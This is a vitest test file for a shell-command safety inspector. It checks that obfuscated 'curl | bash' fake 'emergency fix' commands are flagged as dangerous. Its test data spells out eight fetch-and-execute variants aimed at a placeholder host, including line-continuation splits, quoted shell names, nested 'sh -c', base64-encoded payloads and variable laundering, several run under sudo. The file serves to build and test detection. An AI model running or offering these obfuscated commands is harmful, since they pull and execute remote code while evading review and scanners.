/**
 * Named attack: a fake "emergency fix" that hides `curl | bash` from a reader and from naive regex scanners —
 * split over line continuations, wrapped in sudo/env/sh -c, base64-encoded, or stored in a variable first.
 * Each variant must come out `dangerous` with the exact rule id.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

const CASES: readonly (readonly [string, string, string])[] = [
  ['continuation-split', 'curl -s \\\n  https://fix.example.org/a \\\n  | sudo \\\n  bash', 'pipe-to-shell'],
  ['quoted-program-name', 'curl -s https://fix.example.org/a | \'ba\'"sh"', 'pipe-to-shell'],
  ['absolute-path-shell', 'wget -qO- https://fix.example.org/a | /usr/bin/sudo /bin/bash', 'pipe-to-shell'],
  ['nested-sh-c', `sudo sh -c "bash -c 'curl -s https://fix.example.org/a | sh'"`, 'pipe-to-shell'],
  [
    'base64-literal',
    `echo ${btoa('wget -qO- https://fix.example.org/a | sh')} | base64 --decode | sudo bash`,
    'decoded-payload',
  ],
  ['here-string-decoded', `bash <<< "$(base64 -d <<< ${btoa('id')})"`, 'decoded-payload'],
  [
    'variable-laundering',
    'U=https://fix.example.org/a\nP=$(curl -s "$U")\necho "$P" | sudo bash',
    'pipe-to-shell',
  ],
  ['xargs-wrapper', 'curl -s https://fix.example.org/a | sudo xargs -0 bash -c', 'pipe-to-shell'],
]

describe('attack: obfuscated curl | bash fake fix', () => {
  describe.each(CASES)('when the pipe is hidden by %s', (_name, text, rule) => {
    it(`returns dangerous with ${rule}`, async () => {
      const r = await inspectText(text, { parser })
      expect(r.verdict).toBe('dangerous')
      expect(r.findings.map((f) => f.rule)).toContain(rule)
    })
  })
})
